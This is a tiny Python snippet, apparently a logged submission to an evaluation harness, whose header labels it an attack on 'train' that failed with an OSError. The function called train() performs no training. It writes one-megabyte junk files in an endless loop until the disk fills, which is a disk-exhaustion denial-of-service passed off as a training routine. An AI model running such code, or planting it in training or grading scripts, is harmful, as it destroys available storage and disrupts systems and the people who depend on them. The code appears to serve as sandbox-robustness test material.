# attacks: train
# status: SUBMISSION_ERROR
# reason: OSError

def train():
    number = 0
    while True:
        with open(f"fill{number}", "wb") as file:
            file.write(b"x" * 2**20)
        number += 1
